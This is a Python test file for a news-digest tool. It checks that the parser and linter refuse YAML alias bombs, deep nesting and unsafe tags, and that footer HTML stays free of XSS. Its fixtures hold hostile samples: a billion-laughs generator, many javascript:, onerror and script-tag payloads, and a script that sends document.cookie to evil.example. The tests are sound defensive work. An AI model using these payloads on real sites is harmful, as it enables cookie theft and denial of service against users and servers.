"""Hostile digest files (issue 12): what ``parse``, ``lint`` and ``fmt`` do with input
written to hurt them.

- YAML alias bombs and deep nesting in the front matter are refused with a clear
  ``DigestParseError`` (a line, no traceback), fast and in little memory;
- every link of every layout must be http(s), the footer HTML must be house markup,
  and either finding blocks publishing;
- ``fmt --check`` counts a file it cannot parse as an error.
"""

from __future__ import annotations

import os
import re
import sys
import time
import tracemalloc
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from aidaily.cli.app import app
from aidaily.errors import DigestParseError, PublishError
from aidaily.format.front_matter import MAX_DEPTH, load_yaml
from aidaily.format.links import footer_problems, markdown_links
from aidaily.text import is_http_url
from aidaily.format.lint import Finding, has_errors, lint_text
from aidaily.format.parse import parse
from tests.factories import BAD_BULLET, DAY, DRAFT, FOOTER, GOOD_BULLET, build_home
from tests.measured import Measured, run_measured

DIGESTS = Path(__file__).parent / "fixtures" / "digests"
REFERENCE = DIGESTS / "ai-daily-2026-01-19.md"
NAME = REFERENCE.name
ROOT = Path(__file__).resolve().parent.parent
runner = CliRunner()


def reference() -> str:
    return REFERENCE.read_text(encoding="utf-8")


def with_front_matter(extra: str) -> str:
    """The reference with ``extra`` lines added at the end of its front matter."""
    text = reference()
    close = text.index("\n---\n")
    return text[:close] + "\n" + extra + text[close:]


def line_of(text: str, needle: str) -> int:
    return next(n for n, line in enumerate(text.split("\n"), 1) if needle in line)


def errors(text: str, code: str | None = None, name: str = NAME) -> list[Finding]:
    return [f for f in lint_text(text, name) if f.severity == "error" and (code is None or f.code == code)]


# --------------------------------------------------------------------------- YAML alias bombs


def alias_bomb(levels: int = 8, *, nested: bool = True) -> str:
    """Billion laughs in about 300 bytes: each level lists the previous one 9 times
    (``a: &a ["x",…]``, ``b: &b [*a,…]``, …). ``nested`` puts the anchors under one key,
    so that the whole chain is one front-matter field."""
    indent = "  " if nested else ""
    lines = ["bomb:"] if nested else []
    lines.append(f'{indent}a: &a ["x","x","x","x","x","x","x","x","x"]')
    names = "abcdefghijklmnop"
    for level in range(1, levels):
        lines.append(f"{indent}{names[level]}: &{names[level]} [" + ",".join([f"*{names[level - 1]}"] * 9) + "]")
    return "\n".join(lines)


@pytest.mark.parametrize("nested", [True, False])
def test_alias_bomb_is_refused_quickly_and_in_little_memory(nested: bool) -> None:
    text = with_front_matter(alias_bomb(nested=nested))
    tracemalloc.start()
    cpu = time.process_time()
    try:
        with pytest.raises(DigestParseError) as caught:
            parse(text)
        findings = lint_text(text, NAME)
        spent = time.process_time() - cpu
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "anchor '&a'" in caught.value.message and "not allowed" in caught.value.message
    assert caught.value.line == line_of(text, "&a ")
    assert [(f.code, f.line) for f in findings] == [("front-matter-invalid", line_of(text, "&a "))]
    assert spent < 2, f"{spent:.1f} s of CPU"
    assert peak < 20 * 2**20, f"{peak / 2**20:.0f} MB"


def aidaily_measured(*args: str) -> Measured:
    """``python -m aidaily ARGS`` in a child held to 2 GB of address space (an unbounded
    read fails the test instead of taking the machine's memory), killed after 60 s."""
    return run_measured([sys.executable, "-m", "aidaily", *args], env={**os.environ, "PYTHONPATH": str(ROOT)},
                        cwd=ROOT, capture_output=True, timeout=60, address_limit=2 * 2**30)


def test_alias_bomb_lint_cli_clear_error_within_5_s_and_300_mb(tmp_path: Path) -> None:
    target = tmp_path / NAME
    bomb = alias_bomb()
    assert len(bomb) < 350
    target.write_text(with_front_matter(bomb), encoding="utf-8")
    run = aidaily_measured("lint", str(target))
    code, output, cpu, rss = run.exit_code, run.output, run.cpu_s, run.peak_rss_bytes
    assert code == 1, output
    assert "Traceback" not in output
    assert f"{target}:{line_of(target.read_text(encoding='utf-8'), '&a ')}: error [front-matter-invalid]" in output
    assert "anchor '&a' is not allowed" in output
    # CPU time and this child's own peak RSS: robust on a loaded 2-core machine.
    assert cpu < 5, f"{cpu:.1f} s of CPU"
    assert rss < 300 * 2**20, f"{rss / 2**20:.0f} MB"


@pytest.mark.parametrize(
    ("yaml_text", "problem"),
    [
        ("a: &x 1\nb: *x", "anchor '&x'"),
        ("a: [*x]", "alias '*x'"),
        ("a: !!binary aGVsbG8=", "tag"),
        ("a: [!!timestamp 2026-01-01]", "tag"),  # once a traceback: a date is not JSON
        ("a: !!python/object:os.system {}", "tag"),
        ("a: " + "1" * 5000, "number too long"),  # once a traceback: int() digit limit
    ],
)
def test_front_matter_refuses_what_the_house_never_writes(yaml_text: str, problem: str) -> None:
    text = with_front_matter(yaml_text)
    with pytest.raises(DigestParseError) as caught:
        parse(text)
    assert problem in caught.value.message and caught.value.line > 1
    assert [f.code for f in errors(text)] == ["front-matter-invalid"]


def test_load_yaml_keeps_dates_as_text_and_reads_house_values() -> None:
    assert load_yaml('date: 2026-01-19\ntags: ["AI","AI 日报"]\nn: 12') == {
        "date": "2026-01-19", "tags": ["AI", "AI 日报"], "n": 12}


# --------------------------------------------------------------------------- deep nesting


def deep(depth: int) -> str:
    return "a: " + "[" * depth + "]" * depth


def test_deep_nesting_is_a_parse_error_not_a_recursion_error() -> None:
    text = with_front_matter(deep(5_000))  # 10 kB: refused when composing, at its line
    with pytest.raises(DigestParseError) as caught:
        parse(text)
    assert caught.value.line == line_of(text, "a: [[[")
    assert f"nested more than {MAX_DEPTH} levels deep" in caught.value.message


def test_twenty_thousand_levels_are_refused_by_length() -> None:
    text = with_front_matter(deep(20_000))  # 40 kB: refused before YAML sees it
    with pytest.raises(DigestParseError) as caught:
        parse(text)
    assert caught.value.line == 2 and "front matter is too long" in caught.value.message


def test_nesting_up_to_the_limit_is_read() -> None:
    levels = MAX_DEPTH - 2  # the front matter's mapping and the innermost value are levels too
    digest = parse(with_front_matter("a: " + "[" * levels + "1" + "]" * levels))
    value = digest.front_matter.get("a")
    for _ in range(levels):
        value = value[0]
    assert value == 1


@pytest.mark.parametrize("command", [["lint"], ["fmt"], ["fmt", "--check"], ["fmt", "--canonical"]])
@pytest.mark.parametrize("depth", [5_000, 20_000])
def test_deep_nesting_cli_gives_a_clean_error(tmp_path: Path, command: list[str], depth: int) -> None:
    target = tmp_path / NAME
    text = with_front_matter(deep(depth))
    target.write_text(text, encoding="utf-8")
    result = runner.invoke(app, [*command, str(target)])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    line = line_of(text, "a: [[[") if depth == 5_000 else 2
    assert f"line {line}: front matter" in result.output or f"{NAME}:{line}: error" in result.output
    assert re.search(r"nested more than \d+ levels|too long", result.output)
    assert target.read_text(encoding="utf-8") == text


def test_front_matter_with_too_many_keys_is_refused() -> None:
    text = with_front_matter("\n".join(f"k{i}: {i}" for i in range(150)))
    with pytest.raises(DigestParseError, match="keys"):
        parse(text)


# --------------------------------------------------------------------------- fmt --check summary


def test_fmt_check_counts_an_unparsable_file_as_an_error(tmp_path: Path) -> None:
    bad = tmp_path / "bad.md"
    bad.write_text(with_front_matter("a: [oops"), encoding="utf-8")
    result = runner.invoke(app, ["fmt", "--check", str(bad)])
    assert result.exit_code == 1
    assert "already formatted" not in result.output.replace("0 already formatted", "")
    assert "1 file(s): 1 error(s) (could not be parsed), 0 would be reformatted, 0 already formatted" in result.output


def test_fmt_check_summary_with_good_and_bad_files(tmp_path: Path) -> None:
    bad = tmp_path / "bad.md"
    bad.write_text("# no front matter\n", encoding="utf-8")
    result = runner.invoke(app, ["fmt", "--check", str(REFERENCE), str(bad)])
    assert result.exit_code == 1
    assert f"error: {bad}: line 1: front matter missing" in result.output
    assert "2 file(s): 1 error(s) (could not be parsed), 0 would be reformatted, 1 already formatted" in result.output


# --------------------------------------------------------------------------- the footer


def with_footer(extra: str) -> str:
    """The reference with ``extra`` lines at the end of its footer."""
    return reference() + "\n" + extra


def test_house_footers_have_no_findings() -> None:
    for path in sorted(DIGESTS.glob("*.md")):
        text = path.read_text(encoding="utf-8")
        assert [f for f in lint_text(text, path.name) if f.code in ("footer-html", "bad-url")] == []
    assert footer_problems(FOOTER.split("\n"), 1) == []
    template = (ROOT / "prompts" / "footer.html").read_text(encoding="utf-8")  # what drafts get
    assert footer_problems(template.split("\n"), 1) == []


@pytest.mark.parametrize(
    ("html", "problem"),
    [
        ("<script>alert(1)</script>", "tag <script>"),
        ('<img src="https://ssl.aicode.cc/x.png" onerror="alert(1)">', "attribute 'onerror'"),
        ('<a href="javascript:alert(1)">加入</a>', "not an http(s) link"),
        ('<a href=" JaVaScRiPt:alert(1)">加入</a>', "not an http(s) link"),
        ('<a href="java&#x09;script:alert(1)">加入</a>', "not an http(s) link"),
        ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "not an http(s) link"),
        ('<form action="https://evil.example/steal"><input name="p"></form>', "tag <form>"),
        ('<iframe src="https://evil.example/"></iframe>', "tag <iframe>"),
        ('<div style="background:url(javascript:alert(1))">x</div>', "attribute 'style'"),
        ('<svg><script>alert(1)</script></svg>', "tag <svg>"),
        ("<!--><script>alert(1)</script>-->", "tag <script>"),
        ("<!-- a comment -->", "comment"),
        ('<div>x</div>\n<body onload="alert(1)">', "misplaced <body>"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "tag <meta>"),
        ('<a href="https://x.example" <img src=x onerror=alert(1)>', "not allowed"),
        ('<a href="//evil.example/">x</a>', "not an http(s) link"),
    ],
)
def test_footer_html_off_the_allow_list_is_a_lint_error(html: str, problem: str) -> None:
    text = with_footer(html)
    found = errors(text, "footer-html")
    assert any(problem in f.message for f in found), [f.message for f in found]
    assert all(f.line >= line_of(text, html.split("\n")[0]) for f in found), found
    assert has_errors(lint_text(text, NAME))


def test_footer_finding_names_the_line() -> None:
    text = with_footer('<p>ok</p>\n<a href="https://t.me/x" onclick="steal()">x</a>')
    [finding] = errors(text, "footer-html")
    assert finding.line == line_of(text, "onclick") and "onclick" in finding.message


def test_deeply_nested_footer_is_an_error_not_a_crash() -> None:
    text = with_footer("<div>" * 20_000 + "x" + "</div>" * 20_000)
    assert errors(text, "footer-html")


def test_a_hostile_footer_blocks_publishing(home: Path) -> None:
    from aidaily.review.publish import publish_draft

    clean = DRAFT.replace(BAD_BULLET, GOOD_BULLET)
    hostile = clean.replace(FOOTER, FOOTER + '\n<script>fetch("https://evil.example/?c="+document.cookie)</script>')
    settings = build_home(home, draft=hostile)
    with pytest.raises(PublishError, match=r"footer-html.*<script>"):
        publish_draft(settings, date.fromisoformat(DAY))
    assert not settings.post_path(date.fromisoformat(DAY)).exists()
    settings = build_home(home, draft=clean)  # the same draft with the house footer goes out
    assert publish_draft(settings, date.fromisoformat(DAY)).path.exists()


# --------------------------------------------------------------------------- every link


SECTIONED = """---
title: AI 日报 | 苹果牵手谷歌 Gemini 与 Claude 进军医疗：大模型的联盟之年
date: 2026-01-12
category: AI 日报
tags: ["AI","AI 日报"]
seo: ["AI 日报"]
coverImage: "https://ssl.aicode.cc/n8n/2026/01-11/cover.png"
summary: "- 苹果确认新版 Siri 采用谷歌 Gemini 模型"
---
# AI 日报 | 苹果牵手谷歌 Gemini 与 Claude 进军医疗：大模型的联盟之年

## 今日看点：巨头之间从竞争走向“竞合”
### [苹果确认新版 Siri 采用谷歌 Gemini 模型](ITEM_URL)

- 双方签署多年协议 BULLET_LINK

**深度解读 & 洞察：**
- 苹果自研大模型路线让位于“买最好的” INSIGHT_LINK

## 六、更多动态

- 微软 Copilot 新增“深度研究”模式（[ithome](BRIEF_URL)）

---

<div class="telegram-card">
  <a href="https://t.me/ai_news_plus">立即加入群组</a>
</div>"""


def sectioned(**parts: str) -> str:
    defaults = {
        "ITEM_URL": "https://www.ithome.com/0/911/001.htm",
        "BULLET_LINK": "",
        "INSIGHT_LINK": "",
        "BRIEF_URL": "https://www.ithome.com/0/911/044.htm",
    }
    text = SECTIONED
    for key, value in {**defaults, **parts}.items():
        text = text.replace(key, value)
    return text


def bad_urls(text: str, name: str = NAME) -> list[tuple[int, str]]:
    return [(f.line, f.message) for f in errors(text, "bad-url", name)]


def sectioned_bad_urls(text: str) -> list[tuple[int, str]]:
    return bad_urls(text, "ai-daily-2026-01-12.md")


def test_the_heading_layout_of_the_series_is_clean() -> None:
    assert errors(sectioned(), name="ai-daily-2026-01-12.md") == []


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(document.cookie)", "javascript:alert(1)", "JAVASCRIPT:alert(1)",
     "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "ftp://x.example/a"],
)
def test_heading_item_link_under_the_headline_must_be_http(url: str) -> None:
    """``### [title](url)`` right under the ``##`` headline is a story (an item before
    any section), and its link is checked like any other."""
    text = sectioned(ITEM_URL=url)
    assert sectioned_bad_urls(text) == [(line_of(text, "### [苹果确认"), f"item URL '{url}' is not an http(s) URL")]


@pytest.mark.parametrize(
    ("part", "value", "needle"),
    [
        ("BULLET_LINK", "[详情](javascript:alert(1))", "双方签署"),
        ("BULLET_LINK", "![图](javascript:alert(1))", "双方签署"),
        ("BULLET_LINK", "<javascript:alert(1)>", "双方签署"),
        ("BULLET_LINK", "[详情][x]\n\n[x]: javascript:alert(1)", "双方签署"),  # where it is used
        ("INSIGHT_LINK", "[来源](javascript:void(0))", "自研大模型"),
        ("BRIEF_URL", "javascript:alert(3)", "（[ithome]"),  # not a one-liner for the model
        ("BRIEF_URL", "javascript:void", "（[ithome]"),  # a one-liner for the model
    ],
)
def test_links_in_every_layout_must_be_http(part: str, value: str, needle: str) -> None:
    text = sectioned(**{part: value})
    found = sectioned_bad_urls(text)
    assert len(found) == 1 and found[0][0] == line_of(text, needle), found
    assert "javascript:" in found[0][1]


@pytest.mark.parametrize("cover", ["javascript:alert(1)", "//evil.example/x.png", "data:image/png;base64,AA"])
def test_cover_image_must_be_http_or_a_path_on_the_blog(cover: str) -> None:
    text = sectioned().replace("https://ssl.aicode.cc/n8n/2026/01-11/cover.png", cover)
    assert sectioned_bad_urls(text) == [(line_of(text, "coverImage"),
                                         f"'coverImage' link '{cover}' is neither an http(s) URL nor a /path on the blog")]
    own = sectioned().replace("https://ssl.aicode.cc/n8n/2026/01-11/cover.png", "/images/covers/2026-01-11.png")
    assert sectioned_bad_urls(own) == []


def test_links_in_the_footer_text_must_be_http() -> None:
    text = with_footer("<p>欢迎[加入](javascript:alert(1))群组</p>")
    assert bad_urls(text) == [(line_of(text, "[加入]"), "link 'javascript:alert(1)' is not an http(s) URL")]


def test_item_in_the_reference_layout_is_reported_once() -> None:
    text = reference().replace("https://www.qbitai.com/2026/01/370077.html", "javascript:alert(1)", 1)
    assert len(bad_urls(text)) == 1


# --------------------------------------------------------------------------- properties

_yaml_chars = st.sampled_from(list("[]{}&*!|>-:?,#'\"\n\t ab1") + ["  ", "\n  ", "- ", ": ", "&a ", "*a"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_yaml_chars, max_size=80).map("".join))
def test_any_front_matter_is_read_or_refused_cleanly(junk: str) -> None:
    text = with_front_matter("x: 1\n" + junk.replace("\n---", "\n- --"))
    try:
        parse(text)
    except DigestParseError as exc:
        assert exc.line >= 1
    lint_text(text, NAME)  # never raises


_html_parts = st.sampled_from([
    "<div>", "</div>", "<a ", "href=", '"', "'", "javascript:", "https://x.example/", ">", "<",
    "<!--", "-->", "<script>", "</script>", "<img ", "src=", "onerror=", " ", "\n", "x", "&#x09;",
    "<body ", "<p>", "</p>", "<![CDATA[", "]]>", "<?", "?>", "/", "=",
])


@settings(max_examples=300, deadline=None)
@given(st.lists(_html_parts, max_size=40).map("".join))
# Found by this property in whole-suite runs (issue 21): a script inside an attribute
# value that never closes; closed by issue 20 (the footer parsed as browsers do).
@example('<a href="<script>x</a>')
@example('<a src="<script>')
def test_footer_check_never_crashes_and_never_passes_a_script(html: str) -> None:
    problems = footer_problems(html.split("\n"), 10)
    assert all(line >= 10 for line, _ in problems)
    lowered = html.lower()
    if "<script>" in lowered and "<!--" not in lowered and "<![cdata[" not in lowered and "<?" not in lowered:
        assert problems, html


_schemes = st.sampled_from(["javascript", "JavaScript", "vbscript", "data", "file", "ftp", "mailto", "jav&#x61;script"])


@settings(max_examples=100, deadline=None)
@given(_schemes, st.text(alphabet="abc1;:/.%", max_size=20))
def test_a_non_http_link_anywhere_is_an_error(scheme: str, rest: str) -> None:
    url = f"{scheme}:{rest}"
    links = markdown_links([f"- 见 [来源]({url}) 与 [官网](https://x.example/)"], 7)
    assert [line for _, line in links] == [7, 7]
    assert [is_http_url(u) for u, _ in links] == [False, True]
